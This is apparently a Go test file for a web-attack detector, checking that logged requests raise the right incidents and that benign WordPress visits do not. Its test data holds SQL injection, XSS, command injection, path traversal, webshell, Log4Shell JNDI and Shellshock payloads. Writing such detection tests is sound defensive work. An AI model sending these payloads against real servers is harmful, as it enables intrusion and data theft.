package detect

import (
	"fmt"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/attackmap/attackmap/incident"
	"github.com/attackmap/attackmap/sensor/event"
	"github.com/attackmap/attackmap/sensor/logparse"
)

const (
	firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0"
	chrome  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36"
)

// webLine builds an http_request event from a request line as an access
// log holds it ("GET /p?q HTTP/1.1"); a line that is not "METHOD target
// HTTP/x" stays whole as the path, as the access parser keeps it.
func webLine(ip string, ts time.Time, line string, status int, ua string) event.Event {
	ev := event.Event{TS: ts, Kind: event.KindHTTPRequest, Source: event.SourceAccessLog,
		SrcIP: netip.MustParseAddr(ip), Status: status, UA: ua}
	i, j := strings.IndexByte(line, ' '), strings.LastIndexByte(line, ' ')
	if i <= 0 || j <= i || !strings.HasPrefix(line[j+1:], "HTTP/") {
		ev.Path = line
		return ev
	}
	ev.Method, ev.HTTPVersion = line[:i], line[j+1:]
	ev.Path, ev.Query, _ = strings.Cut(line[i+1:j], "?")
	if logparse.IsStatic(ev.Path) {
		ev.Detail = logparse.DetailStatic
	}
	return ev
}

// run feeds one request line per second from ip and returns every
// incident, then the flushed ones.
func runLines(t *testing.T, e *Engine, ip string, status int, ua string, lines ...string) []incident.Incident {
	t.Helper()
	var evs []event.Event
	for i, l := range lines {
		evs = append(evs, webLine(ip, at(time.Duration(i)*time.Second), l, status, ua))
	}
	out := feed(t, e, evs...)
	return append(out, e.Flush()...)
}

func TestWebScanRaisesAfterTenDistinctNotFoundPaths(t *testing.T) {
	e := New(every())
	for i := range 10 {
		got := bySource(feed(t, e, httpReq(attacker, at(time.Duration(i)*time.Second), "GET", fmt.Sprintf("/page%d.php", i), 404, firefox)), "web_scan")
		if i < 9 && len(got) != 0 {
			t.Fatalf("raised at path %d", i+1)
		}
		if i == 9 && (len(got) != 1 || got[0].Severity != incident.Medium || len(got[0].Evidence.Paths) != 10 || got[0].Title != "Web scan") {
			t.Fatalf("10th path: %+v", got)
		}
	}
}

func TestWebScanIgnoresStaticAndRepeatedNotFound(t *testing.T) {
	e := New(every())
	for i := range 100 {
		ts := at(time.Duration(i) * time.Second)
		got := feed(t, e,
			httpReq(attacker, ts, "GET", fmt.Sprintf("/img/p%d.png", i), 404, firefox),
			httpReq(attacker, ts, "GET", "/favicon.ico", 404, firefox),
			httpReq(attacker, ts, "GET", "/missing", 404, firefox),
			httpReq(attacker, ts, "GET", fmt.Sprintf("/post/%d", i), 200, firefox))
		if len(got) != 0 {
			t.Fatalf("raised %+v", got)
		}
	}
}

// TestWebScanCategories feeds short, unmistakable scans that stay under a
// pure not-found threshold; each must raise web_scan with a title naming
// the attack and its category in the tags.
func TestWebScanCategories(t *testing.T) {
	cases := []struct {
		name   string
		status int
		ua     string
		lines  []string
		title  string
		tag    string
		sev    incident.Severity // least severity
	}{
		{"eight WordPress plugin probes", 404, firefox, []string{
			"GET /wp-content/plugins/revslider/readme.txt HTTP/1.1",
			"GET /wp-content/plugins/wp-file-manager/readme.txt HTTP/1.1",
			"GET /wp-content/plugins/contact-form-7/readme.txt HTTP/1.1",
			"GET /wp-content/plugins/elementor/readme.txt HTTP/1.1",
			"GET /wp-content/plugins/duplicator/readme.txt HTTP/1.1",
			"GET /wp-content/plugins/woocommerce/readme.txt HTTP/1.1",
			"GET /wp-content/plugins/wpforms-lite/readme.txt HTTP/1.1",
			"GET /wp-content/plugins/really-simple-ssl/readme.txt HTTP/1.1",
		}, "WordPress plugin scan", "wordpress", incident.Medium},
		{"two webshell names", 404, firefox, []string{
			"GET /alfa_shell.php HTTP/1.1",
			"GET /wp-content/uploads/wso_shell.php HTTP/1.1",
		}, "Webshell probing", "backdoor", incident.Medium},
		{"sixteen sqlmap probes on one path with a browser agent", 200, firefox, []string{
			"GET /item.php?id=1 HTTP/1.1",
			"GET /item.php?id=1%29%28%27%22.%2C%2C%29%28 HTTP/1.1",
			"GET /item.php?id=1%27%20AND%204915%3D4915%20AND%20%27xJZa%27%3D%27xJZa HTTP/1.1",
			"GET /item.php?id=1%20AND%201%3D1 HTTP/1.1",
			"GET /item.php?id=1%20AND%201%3D2 HTTP/1.1",
			"GET /item.php?id=1%20AND%20SLEEP%285%29 HTTP/1.1",
			"GET /item.php?id=1%20AND%20%28SELECT%204861%20FROM%20%28SELECT%28SLEEP%285%29%29%29xYzw%29 HTTP/1.1",
			"GET /item.php?id=1%20ORDER%20BY%201--%20- HTTP/1.1",
			"GET /item.php?id=1%20ORDER%20BY%2010--%20- HTTP/1.1",
			"GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL--%20- HTTP/1.1",
			"GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20- HTTP/1.1",
			"GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT%280x7176786a71%2C0x4c4a6b%2C0x7178787171%29--%20- HTTP/1.1",
			"GET /item.php?id=1%27%20AND%20EXTRACTVALUE%286125%2CCONCAT%280x5c%2C0x7176786a71%29%29%20AND%20%27abc%27%3D%27abc HTTP/1.1",
			"GET /item.php?id=1%20AND%202345%3D%28SELECT%202345%20FROM%20PG_SLEEP%285%29%29 HTTP/1.1",
			"GET /item.php?id=1%29%3BWAITFOR%20DELAY%20%270%3A0%3A5%27-- HTTP/1.1",
			"GET /item.php?id=-7341%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--%20- HTTP/1.1",
		}, "SQL injection probing", "sqli", incident.High},
		{"wapiti XSS payloads with a browser agent", 200, chrome, []string{
			"GET /search.php?q=%3Cscript%3Ealert%28%27wqzl0aq0y6%27%29%3C%2Fscript%3E HTTP/1.1",
			"GET /search.php?q=%3CScRiPt%3Ealert%28%27wj7u9ejt3o%27%29%3C%2FsCrIpT%3E HTTP/1.1",
			"GET /search.php?q=%22%3E%3Cimg%20src%3D.%20onerror%3Dalert%28%27w8ybyk7ylx%27%29%3E HTTP/1.1",
			"GET /search.php?q=%3Csvg%20onload%3Dalert%28%27wfk5x3ij2e%27%29%3E HTTP/1.1",
		}, "XSS probing", "xss", incident.Medium},
		{"wapiti command injection payloads with a browser agent", 200, chrome, []string{
			"GET /ping.php?host=%3Bcat%20%2Fetc%2Fpasswd HTTP/1.1",
			"GET /ping.php?host=%7Cid HTTP/1.1",
			"GET /ping.php?host=%60id%60 HTTP/1.1",
		}, "Command injection probing", "cmd_injection", incident.High},
		{"path traversal", 400, firefox, []string{
			"GET /static/..%2f..%2f..%2f..%2fetc%2fpasswd HTTP/1.1",
		}, "Path traversal probing", "traversal", incident.High},
		{"CONNECT", 400, "", []string{
			"CONNECT www.google.com:443 HTTP/1.1",
		}, "Open proxy probe", "open_proxy", incident.Medium},
		{"absolute URI", 404, "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", []string{
			"GET http://azenv.net/ HTTP/1.1",
		}, "Open proxy probe", "open_proxy", incident.Medium},
		{"invalid HTTP versions", 400, "", []string{
			"GET / HTTP/9.8",
			"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/7.9",
		}, "Malformed HTTP requests", "protocol", incident.Medium},
		{"w00tw00t", 400, "", []string{
			"GET /w00tw00t.at.ISC.SANS.DFind:)",
		}, "Malformed HTTP requests", "protocol", incident.Medium},
		{"a scanner user agent", 200, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", []string{
			"GET / HTTP/1.1",
		}, "Scanner: nikto", "scanner_ua", incident.Medium},
		{"a single .env probe", 404, "Mozilla/5.0", []string{
			"GET /.env HTTP/1.1",
		}, "Sensitive file scan", "sensitive_file", incident.Medium},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := bySource(runLines(t, New(every()), attacker, c.status, c.ua, c.lines...), "web_scan")
			if len(got) == 0 {
				t.Fatal("no web_scan incident")
			}
			in := last(t, got)
			if in.Title != c.title {
				t.Errorf("title %q, want %q (summary %q)", in.Title, c.title, in.Summary)
			}
			if !slices.Contains(in.Tags, c.tag) {
				t.Errorf("tags %v, want %s", in.Tags, c.tag)
			}
			if in.Severity.Rank() < c.sev.Rank() {
				t.Errorf("severity %s, want at least %s", in.Severity, c.sev)
			}
			if len(in.Evidence.Paths) == 0 || len(in.Evidence.Methods) == 0 && !strings.Contains(c.lines[0], "w00t") {
				t.Errorf("evidence %+v", in.Evidence)
			}
			t.Logf("%s: %s (%s) %v", in.Severity, in.Title, in.Summary, in.Tags)
		})
	}
}

func TestWebScanNamesTheToolWithTheAttack(t *testing.T) {
	ua := "sqlmap/1.8.4#stable (https://sqlmap.org)"
	got := bySource(runLines(t, New(every()), attacker, 200, ua,
		"GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL--%20- HTTP/1.1",
		"GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20- HTTP/1.1",
		"GET /item.php?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20- HTTP/1.1"), "web_scan")
	in := last(t, got)
	if in.Title != "SQL injection probing (sqlmap)" || !slices.Contains(in.Tags, "sqli") || !slices.Contains(in.Tags, "scanner_ua") {
		t.Fatalf("got %q %v", in.Title, in.Tags)
	}
	if !strings.Contains(in.Summary, "SQL injection") || in.Severity != incident.High {
		t.Fatalf("summary %q severity %s", in.Summary, in.Severity)
	}
}

func TestWebScanSummaryCountsWhatWasTried(t *testing.T) {
	got := bySource(runLines(t, New(every()), attacker, 404, firefox,
		"GET /.env HTTP/1.1", "GET /.git/config HTTP/1.1", "GET /old.php HTTP/1.1"), "web_scan")
	in := last(t, got)
	if in.Count != 3 || !strings.HasPrefix(in.Summary, "3 suspicious requests to 3 distinct paths in 2 s: sensitive file (2), not found (1); first: ") {
		t.Fatalf("count %d summary %q", in.Count, in.Summary)
	}
	want := []string{"/.env", "/.git/config", "/old.php"}
	if !slices.Equal(in.Evidence.Paths, want) || !slices.Equal(in.Evidence.Statuses, []int{404}) {
		t.Fatalf("evidence %+v", in.Evidence)
	}
}

// TestWebScanBenignNearMisses replays a site owner's ordinary visit to a
// real WordPress site, searches that look like SQL, ".." in a query and
// a mistyped URL: nothing may fire.
func TestWebScanBenignNearMisses(t *testing.T) {
	visit := []struct {
		line   string
		status int
	}{
		{"GET / HTTP/2.0", 200},
		{"GET /wp-content/themes/twentytwentyfour/style.css?ver=1.1 HTTP/2.0", 200},
		{"GET /wp-includes/js/jquery/jquery.min.js?ver=3.7.1 HTTP/2.0", 200},
		{"GET /wp-content/plugins/contact-form-7/includes/css/styles.css?ver=5.9.3 HTTP/2.0", 200},
		{"GET /wp-content/plugins/old-gallery/css/gallery.css?ver=1.2 HTTP/2.0", 404},
		{"GET /wp-content/plugins/old-gallery/js/gallery.js?ver=1.2 HTTP/2.0", 404},
		{"GET /favicon.ico HTTP/2.0", 404},
		{"GET /apple-touch-icon.png HTTP/2.0", 404},
		{"GET /apple-touch-icon-precomposed.png HTTP/2.0", 404},
		{"GET /wp-admin/ HTTP/2.0", 302},
		{"GET /wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1 HTTP/2.0", 200},
		{"POST /wp-login.php HTTP/2.0", 302},
		{"GET /wp-admin/ HTTP/2.0", 200},
		{"POST /wp-admin/admin-ajax.php HTTP/2.0", 200},
		{"GET /wp-json/ HTTP/2.0", 200},
		{"GET /wp-json/wp/v2/posts?per_page=10&context=edit HTTP/2.0", 200},
		{"GET /wp-json/wp/v2/users/me?_locale=user HTTP/2.0", 200},
		{"GET /wp-json/wp/v2/users?context=view&who=authors&per_page=100&_fields=id,name&_locale=user HTTP/2.0", 200},
		{"GET /wp-admin/post.php?post=123&action=edit HTTP/2.0", 200},
		{"POST /wp-admin/post.php HTTP/2.0", 302},
		{"GET /wp-admin/load-scripts.php?c=0&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=6.4.3 HTTP/2.0", 200},
		{"GET /?s=%22select+a+dress%22 HTTP/2.0", 200},
		{"GET /search?q=union+station HTTP/2.0", 200},
		{"GET /?s=order+by+date HTTP/2.0", 200},
		{"GET /compare?range=v1.2..v1.3 HTTP/2.0", 200},
		{"GET /search?q=to+be+continued... HTTP/2.0", 200},
		{"GET /blog/the-script-tag-explained HTTP/2.0", 200},
		{"GET /2026/03/hello-wrold/ HTTP/2.0", 404},
		{"GET /?p=123 HTTP/2.0", 200},
		{"GET /feed/ HTTP/2.0", 200},
		{"GET /sitemap.xml HTTP/2.0", 404},
		{"GET /robots.txt HTTP/2.0", 404},
	}
	e := New(every())
	var got []incident.Incident
	for round := range 3 { // three page loads of the same visit
		for i, v := range visit {
			ts := at(time.Duration(round*len(visit)+i) * time.Second)
			got = append(got, feed(t, e, webLine(attacker, ts, v.line, v.status, firefox))...)
		}
	}
	got = append(got, e.Flush()...)
	for _, in := range got {
		t.Errorf("raised %s %q: %s", in.Source, in.Title, in.Summary)
	}
}

func TestWebScanCountsErrorLogPathsOnce(t *testing.T) {
	e := New(every())
	var got []incident.Incident
	for i := range 9 {
		ts := at(time.Duration(i) * time.Second)
		p := fmt.Sprintf("/private/%d/", i)
		got = append(got, feed(t, e,
			httpReq(attacker, ts, "GET", p, 403, firefox),
			event.Event{TS: ts, Kind: event.KindHTTPError, Source: event.SourceErrorLog, SrcIP: mustAddr(attacker),
				Detail: errDirIndex, Path: p, Method: "GET"})...)
	}
	if len(got) != 0 {
		t.Fatalf("nine distinct paths seen in both logs raised %+v", got)
	}
	got = feed(t, e, event.Event{TS: at(9 * time.Second), Kind: event.KindHTTPError, Source: event.SourceErrorLog,
		SrcIP: mustAddr(attacker), Detail: errForbiddenRule, Path: "/private/9/", Method: "GET"})
	if in := bySource(got, "web_scan"); len(in) != 1 || in[0].Count != 10 {
		t.Fatalf("a tenth path from the error log alone: %+v", got)
	}
}

func TestWebScanCountsInvalidURIsFromTheErrorLog(t *testing.T) {
	e := New(every())
	var got []incident.Incident
	for i := range 2 {
		got = append(got, feed(t, e, event.Event{TS: at(time.Duration(i) * time.Second), Kind: event.KindHTTPError,
			Source: event.SourceErrorLog, SrcIP: mustAddr(attacker), Detail: errInvalidURI,
			Method: "GET", Path: fmt.Sprintf("/%%%d", i)})...)
	}
	in := last(t, bySource(got, "web_scan"))
	if !slices.Contains(in.Tags, "protocol") || in.Title != "Malformed HTTP requests" {
		t.Fatalf("got %q %v", in.Title, in.Tags)
	}
}

func TestWebScanIgnoresAnAdminPageThatAnswers(t *testing.T) {
	got := feed(t, New(every()), httpReq(attacker, t0, "GET", "/wp-admin/", 302, firefox),
		httpReq(attacker, t0, "GET", "/phpmyadmin/", 200, firefox))
	if len(got) != 0 {
		t.Fatalf("raised %+v", got)
	}
}

func TestWebScanWeightsAreConfigurable(t *testing.T) {
	c := every()
	c.WebScan.Weights = map[string]int{"sensitive_file": 1}
	e := New(c)
	if got := feed(t, e, httpReq(attacker, t0, "GET", "/.env", 200, firefox)); len(got) != 0 {
		t.Fatalf("weight 1 fired at once: %+v", got)
	}
	c.WebScan.Weights = map[string]int{"bogus": 1}
	if err := c.Validate(); err == nil || !strings.Contains(err.Error(), `unknown category "bogus"`) {
		t.Fatalf("validate: %v", err)
	}
}

func TestWebScanAcceptsOldPatternSettings(t *testing.T) {
	c, err := DecodeConfig([]byte(`{"web_scan":{"errors":{"capacity":2,"leak":"10s"},"sensitive":["/.env"],"scanner_agents":["nikto"]},
		"exploit_attempt":{"signatures":[{"name":"x","match":"/x"}]}}`))
	if err != nil {
		t.Fatal(err)
	}
	e := New(c)
	var got []incident.Incident
	for i := range 3 {
		got = append(got, feed(t, e, httpReq(attacker, at(time.Duration(i)*time.Second), "GET", fmt.Sprintf("/p%d", i), 404, firefox))...)
	}
	if len(bySource(got, "web_scan")) != 1 {
		t.Fatalf("errors capacity 2 read as score: %+v", got)
	}
}

// TestWebMatchRunsOncePerEvent checks that web_scan and exploit_attempt
// share one Match per event: the second call for the same event returns
// the very same hits, and a new event gets its own.
func TestWebMatchRunsOncePerEvent(t *testing.T) {
	e := New(every())
	ev := httpReq(attacker, t0, "GET", "/.env", 404, firefox)
	e.Handle(ev)
	h1 := e.webHits(&ev)
	ev2 := httpReq(attacker, t0, "GET", "/index.html", 200, firefox)
	h2 := e.webHits(&ev2) // same seq: the cache answers
	if len(h1) == 0 || len(h2) != len(h1) || &h1[0] != &h2[0] {
		t.Fatalf("hits %v then %v", h1, h2)
	}
	e.Handle(ev2)
	if h := e.webHits(&ev2); len(h) != 0 {
		t.Fatalf("a benign event kept the last hits: %v", h)
	}
}

func TestWebScanDoesNotAllocateOnBenignRequests(t *testing.T) {
	e := New(every())
	ev := httpReq(attacker, t0, "GET", "/blog/post-17", 200, chrome)
	ev.Query = "utm_source=feed&id=17"
	e.Handle(ev)
	allocs := testing.AllocsPerRun(200, func() { e.Handle(ev) })
	if allocs > 1 { // Handle's event copy escapes: one allocation, as before the rules
		t.Fatalf("%.1f allocations per benign request", allocs)
	}
}

func BenchmarkWebDetectBenign(b *testing.B) {
	e := New(DefaultConfig())
	ev := httpReq(attacker, t0, "GET", "/blog/post-17", 200, chrome)
	ev.Query = "utm_source=feed&id=17"
	b.ReportAllocs()
	for b.Loop() {
		e.Handle(ev)
	}
}

func TestWebScanLeavesExploitsToExploitAttempt(t *testing.T) {
	ev := webLine(attacker, t0, "GET /?x=${jndi:ldap://198.51.100.1/a}&y=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 200, firefox)
	got := feed(t, New(every()), ev)
	if len(bySource(got, "web_scan")) != 0 || len(bySource(got, "exploit_attempt")) != 1 {
		t.Fatalf("got %+v", got)
	}
	c := every()
	c.WebScan.Weights = map[string]int{"cve": 10}
	c.ExploitAttempt.Disabled = true
	if got := feed(t, New(c), ev); len(bySource(got, "web_scan")) != 1 {
		t.Fatalf("with exploit_attempt off: %+v", got)
	}
}

func TestWebScanExplainsWhatAnEventDid(t *testing.T) {
	e := New(every())
	_, ns := e.Explain(webLine(attacker, t0, "GET /.env HTTP/1.1", 404, firefox))
	var got []string
	for _, n := range ns {
		got = append(got, n.Detector+": "+n.Text)
	}
	s := strings.Join(got, "\n")
	if !strings.Contains(s, "web_scan: rules ") || !strings.Contains(s, " (sensitive_file); no state -> rules ") ||
		!strings.Contains(s, " (sensitive_file); score 10/10; open incident web_scan:") ||
		!strings.Contains(s, "exploit_attempt: unchanged: no cve rule matched") {
		t.Fatalf("notes:\n%s", s)
	}
}

func TestToolDirKeepsOnePluginTogether(t *testing.T) {
	for in, want := range map[string]string{
		"/wp-content/plugins/x/css/a.css":  "/wp-content/plugins/x/",
		"/wp-content/plugins/x/readme.txt": "/wp-content/plugins/x/",
		"/wp-content/plugins/y/":           "/wp-content/plugins/y/",
		"/phpmyadmin/index.php":            "/phpmyadmin/",
		"/pma/":                            "/pma/",
		"/admin.php":                       "/",
		"garbage":                          "garbage",
	} {
		if got := toolDir(in); got != want {
			t.Errorf("toolDir(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestWebScanCallsASprayAWebScan(t *testing.T) {
	lines := []string{"GET /shell.php HTTP/1.1"}
	for i := range 11 {
		lines = append(lines, fmt.Sprintf("GET /dir%d/ HTTP/1.1", i))
	}
	in := last(t, bySource(runLines(t, New(every()), attacker, 404, firefox, lines...), "web_scan"))
	if in.Title != "Web scan" || !slices.Contains(in.Tags, "backdoor") {
		t.Fatalf("title %q tags %v", in.Title, in.Tags)
	}
}

// FuzzWebDetect feeds attacker-chosen request fields to web_scan and
// exploit_attempt: whatever they hold, every incident must validate (the
// text is cleaned and capped) and nothing may panic.
func FuzzWebDetect(f *testing.F) {
	f.Add("GET", "/.env", "", "Mozilla/5.0", 404)
	f.Add("GET", "/item.php", "id=1%20UNION%20ALL%20SELECT%20NULL--%20-", "sqlmap/1.8", 200)
	f.Add("GET", "/?x=${jndi:ldap://a/b}", "", "${jndi:ldap://a/b}", 200)
	f.Add("\x16\x03\x01", "\x00\xff\"<script>", "a=\u2028b", "() { :; }; /bin/sh", 400)
	f.Fuzz(func(t *testing.T, method, path, query, ua string, status int) {
		e := New(every())
		for i := range 3 {
			ev := event.Event{TS: at(time.Duration(i) * time.Second), Kind: event.KindHTTPRequest,
				Source: event.SourceAccessLog, SrcIP: mustAddr(attacker), Method: method,
				Path: path + strings.Repeat("x", i), Query: query, UA: ua, Status: status}
			if i == 2 {
				ev.Kind, ev.Source, ev.Detail = event.KindHTTPError, event.SourceErrorLog, errInvalidURI
			}
			for _, in := range append(e.Handle(ev), e.Flush()...) {
				if err := in.Validate(); err != nil {
					t.Fatalf("%s: %v", in.Source, err)
				}
			}
		}
	})
}
